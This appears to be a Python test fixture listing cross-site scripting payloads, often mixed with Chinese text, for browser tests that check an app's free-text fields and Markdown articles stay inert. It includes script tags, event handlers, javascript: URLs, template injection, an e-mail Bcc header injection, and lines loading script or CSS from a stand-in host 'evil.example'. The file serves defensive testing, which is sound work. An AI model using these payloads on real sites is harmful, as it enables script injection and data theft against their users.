"""Hostile text for every free-text field: it must always come back as plain text.

Each payload, if it ever ran, calls ``alert`` (a dialog the browser tests listen
for) or builds an element/attribute the DOM checks look for. Many are mixed
with Chinese text, as real input here is. Kept short enough (≤ 100 characters,
the shortest field is the display name) to fit every field.

Used by ``tests/browser/test_xss.py``; other suites may reuse it.
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # script elements
    "<script>alert(1)</script>",
    "打印机坏了<script>alert('中文')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "截图<img src=x onerror=\"alert('图片')\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    # URLs
    '<a href="javascript:alert(1)">点我查看</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a>',
    '<form action="javascript:alert(1)"><button>提交</button></form>',
    # attribute breakers (the text lands inside value="…" / title="…" somewhere)
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '"autofocus onfocus="alert(1)" x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # encoded forms (must stay literally as typed, not be decoded into markup)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&#60;img src=x onerror=alert(1)&#62;",
    "＜script＞alert(1)＜/script＞ 全角",
    # split / nested forms that survive naive filters
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img/src=x/onerror=alert(1)>",
    # template injection (Django, Jinja, JS template literals)
    "{{7*7}} {{ request.user.password }}",
    "{% debug %}{% load static %}",
    "${alert(1)} `${7*7}`",
    # CSS
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">样式</div>',
    # htmx attributes (the page runs htmx)
    '<div hx-get="/accounts/logout/" hx-trigger="load">退出</div>',
    # header / line injection for e-mail subjects
    "邮件主题\r\nBcc: attacker@example.com",
    # meta refresh and base
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
]

# Markdown that tries to become markup: links and images to script URLs, images from
# elsewhere, reference links, titles that break out of their attribute, raw HTML. Knowledge
# articles render Markdown (knowledge/markdown.py): all of it must stay inert. ``file:1`` names
# the article's first file (an image in the tests that use it).
MARKDOWN_PAYLOADS: list[str] = [
    "[点我](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![追踪](https://evil.example/track.png)",
    "[r]: javascript:alert(1)\n\n[引用链接][r]",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '![<img src=x onerror=alert(1)>](file:1 "\\" onerror=alert(1) x=\\"")',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<div onclick=alert(1)>点我</div>",
    "*<b onmouseover=alert(1)>粗体</b>*",
]

# Characters that HTML escaping replaces (``&`` left out: a payload that is already
# entity-encoded, like ``&lt;script&gt;``, is exactly what escaping makes of another).
HTML_SPECIALS = frozenset("<>\"'")

# Payloads that HTML escaping changes: their raw form must never appear in a served page.
ESCAPABLE: list[str] = [p for p in PAYLOADS if HTML_SPECIALS & set(p)]


def payload(index: int) -> str:
    """The ``index``-th payload, wrapping around."""
    return PAYLOADS[index % len(PAYLOADS)]
